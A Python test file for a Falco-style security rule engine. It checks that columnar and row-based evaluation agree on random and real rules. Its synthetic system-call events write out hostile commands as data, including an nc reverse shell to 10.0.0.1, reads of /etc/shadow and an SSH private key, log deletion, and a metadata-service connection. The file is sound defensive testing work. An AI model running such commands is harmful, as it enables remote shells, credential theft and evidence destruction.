"""The columnar engine says what the row evaluator says: on random conditions and events, batch after batch, and with Falco's real rules."""

import random
from pathlib import Path
from typing import Any

import msgspec
import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from seawall.run.detect.engine import columns as columns_module
from seawall.run.detect.engine.columnar import Columnar
from seawall.run.detect.engine.columns import CodedBatch, Columns, Dictionary
from seawall.run.detect.engine.detector import Detector, Judged
from seawall.run.detect.engine.rows import matches, reader
from seawall.run.detect.language import RuleFile, compile_rules
from seawall.run.detect.language.tree import And, Call, Check, Condition, Field, Not, Or, Text
from seawall.run.events.audit.decode import AuditDecoder
from seawall.run.events.audit.model import PARTS
from seawall.run.events.audit.source import AuditSource
from seawall.run.events.source import Source
from seawall.run.events.syscall.source import SyscallSource

FALCO_RULES = Path(__file__).parents[5] / "shared" / "data" / "falco-rules"

WORDS = ("", "sh", "bash", "/etc/passwd", "/etc", "open", "execve", "10.0.0.1", "0", "7", "true", "nginx:1", "é", "a*")
TEXT_FIELDS = (
    Field("evt.type"), Field("proc.name"), Field("proc.aname"), Field("proc.aname", "2"), Field("fd.name"), Field("evt.arg.flags"),
    Field("container.id"),
)  # fmt: skip
NUMBER_FIELDS = (Field("fd.num"), Field("proc.pid"), Field("fd.sport"), Field("fd.port"))
BOOL_FIELDS = (Field("container.privileged"), Field("evt.is_open_write"))
ADDRESS_FIELDS = (Field("fd.sip"), Field("fd.ip"))
NETWORK_FIELDS = (Field("fd.net"), Field("fd.snet"))
LIST_FIELDS = (Field("fd.types"),)

words = st.sampled_from(WORDS)
numbers = st.sampled_from(("0", "7", "443", "-1", "0x10"))


def lists(values: st.SearchStrategy[str]) -> st.SearchStrategy[tuple[str, ...]]:
    return st.lists(values, max_size=4).map(tuple)


@st.composite
def checks(draw: st.DrawFn) -> Check:
    kind = draw(st.sampled_from(("text", "text", "text", "number", "bool", "address", "network", "list", "call", "other", "exists")))
    match kind:
        case "text":
            field = draw(st.sampled_from(TEXT_FIELDS))
            operator = draw(
                st.sampled_from(("=", "!=", "<", ">=", "contains", "icontains", "startswith", "endswith", "glob", "iglob", "in", "pmatch"))
            )
            if operator in ("in", "pmatch"):
                return Check(field, operator, draw(lists(words)), is_list=True)
            if draw(st.booleans()):
                modifier = draw(st.sampled_from(("oneof", "anyof", "allof")))
                return Check(field, operator, draw(lists(words)), modifier=modifier, is_list=True)
            return Check(field, operator, (draw(words),))
        case "number":
            field = draw(st.sampled_from(NUMBER_FIELDS))
            if draw(st.booleans()):
                return Check(field, "in", draw(lists(numbers)), is_list=True)
            return Check(field, draw(st.sampled_from(("=", "!=", "<", "<=", ">", ">="))), (draw(numbers),))
        case "bool":
            return Check(draw(st.sampled_from(BOOL_FIELDS)), draw(st.sampled_from(("=", "!="))), (draw(st.sampled_from(("true", "false"))),))
        case "address":
            return Check(draw(st.sampled_from(ADDRESS_FIELDS)), draw(st.sampled_from(("=", "!="))), (draw(st.sampled_from(("10.0.0.1", "::1"))),))
        case "network":
            return Check(draw(st.sampled_from(NETWORK_FIELDS)), draw(st.sampled_from(("=", "!="))), (draw(st.sampled_from(("10.0.0.0/8", "::/0"))),))
        case "list":
            return Check(draw(st.sampled_from(LIST_FIELDS)), draw(st.sampled_from(("in", "intersects"))), draw(lists(words)), is_list=True)
        case "call":
            name = draw(st.sampled_from(("tolower", "toupper", "basename", "len", "b64")))
            call = Call(name, (draw(st.sampled_from(TEXT_FIELDS[:2] + TEXT_FIELDS[4:])),))
            return Check(call, "=", (draw(numbers if name == "len" else words),))
        case "other":
            left, right = draw(st.sampled_from(TEXT_FIELDS)), draw(st.sampled_from(TEXT_FIELDS))
            operator = draw(st.sampled_from(("=", "!=", "startswith", "contains")))
            return Check(left, operator, other=Call("val", (right,)))
        case _:
            return Check(draw(st.sampled_from(TEXT_FIELDS + NUMBER_FIELDS + LIST_FIELDS + NETWORK_FIELDS)), "exists")


conditions: st.SearchStrategy[Condition] = st.recursive(
    checks(),
    lambda inner: st.one_of(
        inner.map(Not),
        st.lists(inner, min_size=2, max_size=4).map(tuple).map(And),
        st.lists(inner, min_size=2, max_size=4).map(tuple).map(Or),
    ),
    max_leaves=12,
)

values = st.one_of(st.none(), words, st.sampled_from((0, 1, 7, 443, True, False, 1.5)))
KEYS = [
    "evt.type",
    "proc.name",
    "proc.pname",
    "proc.aname[2]",
    "proc.aname[3]",
    "fd.name",
    "evt.arg.flags",
    "container.id",
    "fd.num",
    "proc.pid",
    "container.privileged",
    "fd.types",
    "fd.type",
    "fd.typechar",
    "fd.sip",
]
events = st.dictionaries(
    st.sampled_from(KEYS),
    st.one_of(values, st.lists(words, max_size=3), st.sampled_from(("10.0.0.1:5000->10.2.3.4:443", "::1:80->::1:443", "ipv4", "4"))),
    max_size=8,
)


def agree(condition: list[Condition], batches: list[list[Any]], source: Source) -> None:
    engine = Columnar(condition, source)
    columns = Columns(source)
    for shared in engine.shared:
        columns.share(shared)
    for batch in batches:
        selected = engine.select(columns.batch(batch))
        for each, rows in zip(condition, selected, strict=True):
            assert rows.tolist() == [row for row, event in enumerate(batch) if matches(each, reader(event, source), source.name)], each


@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(conditions, min_size=1, max_size=4), st.lists(st.lists(events, min_size=1, max_size=12), min_size=1, max_size=3))
def test_random_rules_on_random_calls(condition: list[Condition], batches: list[list[dict[str, Any]]]) -> None:
    agree(condition, batches, SyscallSource())


def test_dictionaries_that_are_emptied_change_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(columns_module, "MAX_VALUES", 3)
    source = SyscallSource()
    batches = [[{"proc.name": f"p{(number * 7 + batch) % 11}", "fd.num": number} for number in range(20)] for batch in range(5)]
    agree([Check(Field("proc.name"), "=", ("p3",)), Check(Field("fd.num"), ">", ("4",))], batches, source)


def audit_event(random_: random.Random, number: int) -> dict[str, Any]:
    pick = random_.choice
    resource = pick(
        ["pods", "secrets", "configmaps", "clusterroles", "clusterrolebindings", "namespaces", "serviceaccounts", "deployments", "services"]
    )
    container: dict[str, Any] = {"name": "c", "image": pick(["nginx:1.25", "docker.io/calico/node:v3", "localhost:5000/a@sha256:ab"])}
    if pick([True, False]):
        container["securityContext"] = {"privileged": pick([True, False]), "capabilities": {"add": [pick(["SYS_ADMIN", "NET_ADMIN"])]}}
    request: dict[str, Any] = {
        "metadata": {"name": "x"},
        "spec": {
            "containers": [container],
            "hostNetwork": pick([True, False]),
            "volumes": [{"name": "v", "hostPath": {"path": pick(["/etc", "/tmp"])}}],
        },
        "rules": [{"verbs": [pick(["*", "get", "delete"])], "resources": [pick(["pods/exec", "*", "pods"])]}],
        "roleRef": {"name": pick(["cluster-admin", "view"])},
        "data": {"k": pick(["password=1", "hello"])},
    }
    event: dict[str, Any] = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": pick(["Metadata", "Request", "RequestResponse"]),
        "auditID": f"id-{number}",
        "stage": pick(["ResponseComplete", "ResponseStarted", "RequestReceived"]),
        "requestURI": pick(["/api/v1/pods", "/healthz", "/healthz?x=1", "/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c"]),
        "verb": pick(["get", "create", "update", "patch", "delete", "list"]),
        "user": {"username": pick(["admin", "system:anonymous", "alice", "system:node:a", "kube-proxy"]), "groups": ["system:authenticated"]},
        "objectRef": {"resource": resource, "namespace": pick(["kube-system", "default", "shop"]), "name": pick(["system:x", "coredns", "web"])},
        "responseStatus": {"metadata": {}, "code": pick([200, 201, 403, 404])},
        "annotations": {"authorization.k8s.io/decision": pick(["allow", "forbid"])},
        "stageTimestamp": "2026-01-01T00:00:00.000000Z",
    }
    if pick([True, False, False]):
        event["objectRef"]["subresource"] = pick(["exec", "attach", "portforward", "ephemeralcontainers"])
    if event["level"] != "Metadata":
        event["requestObject"] = request
    for name in list(event):
        if name not in ("auditID", "kind") and random_.random() < 0.05:
            del event[name]
    return event


@pytest.mark.parametrize("name", ["k8s_audit_rules.yaml"])
def test_falcos_audit_rules(name: str) -> None:
    path = FALCO_RULES / name
    if not path.exists():
        pytest.skip(f"{name} is not here")
    rules = compile_rules([RuleFile(name, path.read_text())])
    assert not rules.errors
    random_ = random.Random(5)
    decoder = AuditDecoder(PARTS)
    batches = []
    for batch in range(3):
        lines = [msgspec.json.encode(audit_event(random_, batch * 200 + number)) for number in range(200)]
        batches.append([event for line in lines for event in decoder.unwrap(msgspec.json.decode(line))])
    agree([rule.condition for rule in rules.rules], batches, AuditSource())


def call(random_: random.Random) -> dict[str, Any]:
    pick = random_.choice
    kind = pick(["execve", "openat", "connect", "accept", "open", "read", "setuid", "unlinkat", "symlinkat", "ptrace", "clone", "mkdir"])
    event: dict[str, Any] = {
        "evt.type": kind,
        "evt.dir": "<",
        "evt.rawtime": 1_700_000_000_000_000_000,
        "evt.arg.flags": pick(["O_RDONLY", "O_WRONLY|O_CREAT", "O_RDWR", None]),
        "evt.rawres": pick([0, 3, -2]),
        "proc.name": pick(["bash", "sshd", "nc", "python3", "apt", "runc", "cat", "cron", "nginx"]),
        "proc.pname": pick(["bash", "sshd", "containerd-shim", "nginx", None]),
        "proc.aname[2]": pick(["sshd", "systemd", None]),
        "proc.cmdline": pick(["bash -i", "nc -e /bin/sh 10.0.0.1 4444", "cat /etc/shadow", "grep password", "rm -rf /var/log/syslog"]),
        "proc.exepath": pick(["/bin/bash", "/tmp/x", "/dev/shm/x", "/usr/bin/nc"]),
        "proc.tty": pick([0, 34816]),
        "proc.is_exe_upper_layer": pick([True, False]),
        "proc.is_exe_from_memfd": pick([True, False]),
        "fd.name": pick(["/etc/shadow", "/etc/passwd", "/var/log/syslog", "/root/.ssh/id_rsa", "10.0.0.5:41000->169.254.169.254:80", "/usr/bin/x"]),
        "fd.typechar": pick(["f", "4", "d"]),
        "fd.num": pick([0, 1, 3, -1]),
        "user.name": pick(["root", "www-data", None]),
        "user.uid": pick([0, 33]),
        "user.loginuid": pick([-1, 1000]),
        "container.id": pick(["host", "0123456789ab"]),
        "container.image.repository": pick(["docker.io/library/nginx", "falcosecurity/falco", None]),
        "container.privileged": pick([True, False]),
        "k8s.ns.name": pick(["default", "kube-system", None]),
    }
    return {key: value for key, value in event.items() if random_.random() > 0.05}


def test_falcos_system_call_rules() -> None:
    names = ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"]
    if not all((FALCO_RULES / name).exists() for name in names):
        pytest.skip("Falco's rules are not here")
    random_ = random.Random(6)
    batches = [[call(random_) for _ in range(150)] for _ in range(2)]
    matched = 0
    for name in names:
        rules = compile_rules([RuleFile(name, (FALCO_RULES / name).read_text())])
        assert not rules.errors
        agree([rule.condition for rule in rules.rules], batches, SyscallSource())
        detector = Detector([Judged(rule) for rule in rules.rules], SyscallSource())
        matched += len(list(detector.judge(detector.columns().batch(batches[0]), lambda _: 0)))
    assert matched, "the events fit some rules, or nothing was tested"


def test_columns_of_a_sensor() -> None:
    names, types = Dictionary(), Dictionary()
    size = 1000
    random_ = random.Random(7)
    rows = [(random_.choice(["sh", "cat", None]), random_.choice(["open", "read"])) for _ in range(size)]
    batch = CodedBatch(
        size,
        {
            Field("proc.name"): (names.encode((name for name, _ in rows), size), names),
            Field("evt.type"): (types.encode((kind for _, kind in rows), size), types),
        },
    )
    condition = And((Check(Field("evt.type"), "=", ("open",)), Not(Check(Field("proc.name"), "=", ("sh",)))))
    (selected,) = Columnar([condition], SyscallSource()).select(batch)
    assert selected.tolist() == [row for row, (name, kind) in enumerate(rows) if kind == "open" and name != "sh"]
    (absent,) = Columnar([Check(Field("fd.name"), "!=", ("x",))], SyscallSource()).select(batch)
    assert absent.size == 0


def test_alerts_come_in_the_order_of_events_then_of_rules() -> None:
    text = "\n".join(
        f"- rule: {name}\n  desc: d\n  condition: {condition}\n  output: '%proc.name'\n  priority: INFO"
        for name, condition in (("B", "proc.name=a"), ("A", "proc.name in (a, b)"))
    )
    rules = compile_rules([RuleFile("r", text)])
    events_ = [{"proc.name": "b"}, {"proc.name": "a"}, {"proc.name": "c"}]
    for first_only, expected in ((False, [(0, 1), (1, 0), (1, 1)]), (True, [(0, 1), (1, 0)])):
        detector = Detector([Judged(rule) for rule in rules.rules], SyscallSource(), first_only=first_only)
        found = detector.judge(detector.columns().batch(events_), lambda _: 0)
        assert [(match.row, match.rule) for match in found] == expected


def test_the_parts_of_concatenated_fields_come_last() -> None:
    condition = And(
        (Check(Call("concat", (Field("proc.name"), Text(":"), Field("fd.name"))), "=", ("sh:x",)), Check(Field("evt.type"), "=", ("open",)))
    )
    source = SyscallSource()
    engine = Columnar([condition], source)
    (rows,) = engine.select(Columns(source).batch([{"proc.name": "sh", "fd.name": "x", "evt.type": "open"}, {"proc.name": "sh", "evt.type": "open"}]))
    assert np.array_equal(rows, [0])
